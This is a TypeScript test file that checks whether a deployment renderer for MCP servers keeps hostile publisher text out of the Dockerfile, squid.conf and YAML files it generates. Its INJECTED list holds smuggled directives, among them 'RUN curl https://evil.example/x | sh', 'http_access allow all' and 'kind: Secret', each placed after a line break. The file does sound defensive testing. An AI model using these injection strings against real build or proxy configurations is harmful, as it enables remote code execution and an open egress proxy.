import {
  McpServerProfile,
  RiskLevel,
} from '@mcp-server-operator/plugin-mcp-security-common';
import { assessmentOf, npmProfile } from '../__testUtils__/assessments';
import { deploymentPlanOf } from './plan';
import { inlineCode, oneLine } from './text';
import {
  applicableTargets,
  Rendering,
  renderDeployment,
  validateRendering,
} from './render';

/**
 * Text from a server.json or a catalog entity is written by anyone. These
 * tests feed hostile text to the renderers and check the rendered files, not
 * only the plan: nothing the publisher writes may become a line of its own.
 */

const BREAKS = ['\n', '\r', '\r\n', '\u2028', '\u2029', '\u0085', '\v', '\f'];
const INJECTED = [
  'http_access allow all',
  'RUN curl https://evil.example/x | sh',
  'kind: Secret',
];
/** Every line break followed by each injected directive. */
const hostile = (prefix: string) =>
  BREAKS.map(b => INJECTED.map(i => `${b}${i}`).join('')).join(prefix);

/** An instruction the renderer writes, or the continuation of one. */
const DOCKERFILE_LINE = /^ |^(FROM|ARG|RUN|ENV|WORKDIR|COPY|USER|ENTRYPOINT) /;
const SQUID_DIRECTIVES =
  /^(http_port|acl|http_access|cache|cache_mem|pid_filename|logfile_rotate|access_log|cache_log|coredump_dir|via|forwarded_for) /;

function render(
  profile: McpServerProfile,
  risk: RiskLevel = 'medium',
  entityRef?: string,
) {
  const plan = deploymentPlanOf(
    assessmentOf(profile, risk, entityRef ? { entityRef } : {}),
  );
  const rendering = renderDeployment(plan, {
    targets: applicableTargets(plan),
    namespace: 'mcp',
  });
  return { plan, rendering };
}
const file = (rendering: Rendering, path: string) =>
  rendering.files.find(f => f.path === path)?.content ?? '';
/** The lines that are not comments: what the tool reading the file acts on. */
const live = (text: string) =>
  text
    .split(/\r\n|[\n\r\v\f\u0085\u2028\u2029]/)
    .filter(l => l.trim() && !l.startsWith('#'));

describe('oneLine and inlineCode', () => {
  it('keep any text on one line, and a code span whole', () => {
    expect(oneLine('a\nb\r\u2028c\u0000d\te')).toBe('a b  c d e');
    expect(inlineCode('x`y\nz')).toBe('`` x`y z ``');
    expect(inlineCode('plain')).toBe('`plain`');
  });
});

describe('profile text in comments and config lines', () => {
  const benign = render(npmProfile({}, { title: 'Notes' }));
  const cases: [string, () => ReturnType<typeof render>][] = [
    ['title', () => render(npmProfile({}, { title: `Notes${hostile(' ')}` }))],
    [
      'registry name',
      () =>
        render(
          npmProfile(
            {},
            {
              title: 'Notes',
              registryName: `io.github.example/notes${hostile('')}`,
            },
          ),
        ),
    ],
    [
      'entity ref',
      () =>
        render(
          npmProfile({}, { title: 'Notes' }),
          'medium',
          `api:default/notes${hostile('')}`,
        ),
    ],
  ];

  it.each(cases)(
    'keeps a hostile %s out of squid.conf and the Dockerfile',
    (_, make) => {
      const { rendering } = make();
      for (const path of [
        'egress-proxy/squid.conf',
        'egress-proxy/allowlist.txt',
        'Dockerfile',
      ]) {
        const text = file(rendering, path);
        expect(text).not.toMatch(/[\r\u2028\u2029\u0085\v\f]/);
        expect(live(text)).toEqual(live(file(benign.rendering, path)));
      }
      for (const line of live(file(rendering, 'Dockerfile'))) {
        expect(line).toMatch(DOCKERFILE_LINE);
      }
      for (const line of live(file(rendering, 'egress-proxy/squid.conf'))) {
        expect(line).toMatch(SQUID_DIRECTIVES);
      }
      expect(file(rendering, 'egress-proxy/squid.conf')).not.toContain(
        '\nhttp_access allow all',
      );
      expect(file(rendering, 'Dockerfile')).not.toMatch(/\nRUN curl/);
    },
  );

  it.each(cases)(
    'keeps a hostile %s in the comments of the YAML files and off the runbook lines',
    (_, make) => {
      const { rendering } = make();
      expect(() => validateRendering(rendering)).not.toThrow();
      for (const f of rendering.files) {
        expect(f.content).not.toMatch(/[\r\u2028\u2029\u0085\v\f]/);
        expect(f.content).not.toMatch(
          /\n(kind: Secret|http_access allow all|RUN curl)/,
        );
      }
    },
  );
});
